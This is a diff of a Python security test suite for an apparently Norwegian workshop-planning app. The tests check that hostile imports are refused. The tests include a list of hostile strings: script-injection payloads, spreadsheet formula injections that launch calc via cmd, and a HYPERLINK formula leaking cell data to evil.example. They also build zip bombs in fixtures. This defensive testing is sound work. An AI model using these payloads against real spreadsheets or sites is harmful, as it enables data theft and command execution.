@@ -41,15 +41,14 @@ from samskaping.core.exceptions import InvalidInputError, SamskapingError
 from samskaping.core.i18n import error_text
 from samskaping.core.models import clean_text
 from samskaping.core.privacy.detect import mask
-from samskaping.core.tables import FORMULA_START, unguard
+from samskaping.core.tables import FORMULA_START, MAX_IMPORT_BYTES, MAX_XLSX_PART, unguard
 from samskaping.demo import create_demo
 from samskaping.journeys.io import journey_json, read_journey_json
 from samskaping.journeys.model import Journey, Step
-from samskaping.reports.archive import read_zip
-from samskaping.stakeholders.io import MAX_IMPORT_BYTES, MAX_XLSX_PART, describe, read_stakeholder_file
+from samskaping.stakeholders.io import describe, read_stakeholder_file
 from samskaping.stakeholders.model import MAX_NAME_LENGTH
 from samskaping.store import STORE_FILENAME, Store
-from samskaping.store.archive import MAX_ARCHIVE_JSON
+from samskaping.store.archive import MAX_ARCHIVE_JSON, read_zip
 
 EXAMPLES = settings(max_examples=40, deadline=None)
 FEW = settings(max_examples=15, deadline=None)
@@ -67,8 +66,9 @@ NORWEGIAN = re.compile(r"\b(ikke|kan|mangler|filen|feltet|rad|er|og|prøv|igjen|
 #: Text a hostile or careless file carries: empty, white space, very long, control characters,
 #: right-to-left overrides, HTML and JavaScript, SVG, spreadsheet formulas and personal data.
 HOSTILE = [
-    "", " ", "\t \u00a0\u2003", "x" * 100_000, "NUL\x00midt", "\x07\x1b[31mrød\x1b[0m\x7f\x85", "\u202eLES BAKLENGS\u202c",
-    "\u200f\u2066høyre\u2069\ufeff", "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<svg onload=alert(1)>",
+    "", " ", "\t \u00a0\u2003", "x" * 100_000, "NUL\x00midt", "\x07\x1b[31mrød\x1b[0m\x7f\x85",
+    "\u202eLES BAKLENGS\u202c", "\u200f\u2066høyre\u2069\ufeff", "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">', "<svg onload=alert(1)>",
     '"><svg/onload=alert(1)>', '=HYPERLINK("http://evil.example/?d="&A1;"Klikk")', "+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1",
     "Ring Kari Nordmann på 912 34 567",
@@ -341,7 +341,9 @@ def test_a_truncated_workbook_is_refused_as_damaged(template, cut, kind):
     with copy_of(template) as folder:
         before = snapshot(folder)
         path = write(folder, "skadet.xlsx", data[: int(len(data) * cut)])
-        assert "kunne ikke åpnes som en Excel-arbeidsbok" in assert_refused(folder, before, IMPORTS[kind](demo_id(template), path))
+        assert "kunne ikke åpnes som en Excel-arbeidsbok" in assert_refused(
+            folder, before, IMPORTS[kind](demo_id(template), path)
+        )
 
 
 @EXAMPLES
@@ -372,11 +374,13 @@ def test_a_sheet_over_the_size_cap_is_refused_unread(template):
 def test_a_workbook_that_unpacks_to_gigabytes_is_refused_unopened(template):
     """A zip bomb of a workbook: a valid workbook whose shared strings unpack to over the cap."""
     buffer = io.BytesIO(xlsx_bytes([["Navn", "Interesse", "Innflytelse"], ["NAV", 3, 4]]))
-    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as workbook:
-        with workbook.open("xl/media/bombe.xml", "w", force_zip64=True) as member:
-            chunk = b" " * 2**20
-            for _ in range(MAX_XLSX_PART // 2**20 + 1):
-                member.write(chunk)
+    with (
+        zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as workbook,
+        workbook.open("xl/media/bombe.xml", "w", force_zip64=True) as member,
+    ):
+        chunk = b" " * 2**20
+        for _ in range(MAX_XLSX_PART // 2**20 + 1):
+            member.write(chunk)
     data = buffer.getvalue()
     assert len(data) < MAX_IMPORT_BYTES  # small on disk: only the unpacked size gives it away
     with copy_of(template) as folder:
@@ -392,7 +396,8 @@ def test_a_file_of_another_kind_is_named_with_the_formats_that_work(template, na
     with copy_of(template) as folder:
         before = snapshot(folder)
         for kind in IMPORTS:
-            assert_refused(folder, before, IMPORTS[kind](demo_id(template), write(folder, name, b"navn\n")), name, message)
+            assert_refused(folder, before, IMPORTS[kind](demo_id(template), write(folder, name, b"navn\n")),
+                           name, message)
 
 
 def test_a_missing_file_or_a_folder_is_named(template):
@@ -436,7 +441,8 @@ def _export(template: Path) -> dict:
 
 
 _VALUES = st.one_of(st.none(), st.booleans(), st.integers(), st.just(2**70), st.floats(allow_nan=False),
-                    hostile_text(nul=False), st.lists(st.integers(), max_size=2), st.dictionaries(st.text(max_size=4), st.integers(), max_size=2),
+                    hostile_text(nul=False), st.lists(st.integers(), max_size=2),
+                    st.dictionaries(st.text(max_size=4), st.integers(), max_size=2),
                     st.just("ikke-en-id"), st.just("2024-13-45T99:00"))
 
 
@@ -505,7 +511,8 @@ def test_a_damaged_export_is_imported_whole_or_refused_with_nothing_stored(templ
     (lambda raw: raw.replace(b'"version": 1', b'"version": 99'), "eksportversjon «99»"),
     (lambda raw: raw.replace(b'"format": "samskaping-workshop"', b'"format": "<script>"'), '"format"'),
     (lambda raw: json.dumps({**json.loads(raw), "ideas": {"x": 1}}).encode(), "«ideas» skulle vært en liste"),
-    (lambda raw: json.dumps({**json.loads(raw), "themes": [{"id": "t1"}]}).encode(), "«themes» kan ikke leses (oppføring nr. 1)"),
+    (lambda raw: json.dumps({**json.loads(raw), "themes": [{"id": "t1"}]}).encode(),
+     "«themes» kan ikke leses (oppføring nr. 1)"),
 ])
 def test_a_broken_export_file_is_refused_naming_what_is_wrong(template, make, problem):
     raw = json.dumps(_export(template), ensure_ascii=False).encode("utf-8")
@@ -642,11 +649,13 @@ def test_member_names_that_climb_out_of_the_folder_are_never_unpacked(template):
 def zip_bomb(tmp_path_factory) -> Path:
     """An archive of about a megabyte whose workshop.json unpacks to more than :data:`MAX_ARCHIVE_JSON`."""
     path = tmp_path_factory.mktemp("bombe") / "bombe.zip"
-    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
-        with archive.open("workshop.json", "w", force_zip64=True) as member:
-            chunk = b" " * 2**20
-            for _ in range(MAX_ARCHIVE_JSON // 2**20 + 1):
-                member.write(chunk)
+    with (
+        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
+        archive.open("workshop.json", "w", force_zip64=True) as member,
+    ):
+        chunk = b" " * 2**20
+        for _ in range(MAX_ARCHIVE_JSON // 2**20 + 1):
+            member.write(chunk)
     return path
 
 
@@ -661,7 +670,7 @@ def test_a_zip_bomb_is_refused_without_unpacking_it(template, zip_bomb):
 
 def test_read_zip_refuses_a_member_whose_directory_lies_about_its_size(tmp_path, monkeypatch):
     """The size in the central directory may lie; reading stops at the cap all the same."""
-    import samskaping.reports.archive as export
+    import samskaping.store.archive as export
 
     path = tmp_path / "lyver.zip"
     path.write_bytes(_zip({"workshop.json": b" " * 5000}))
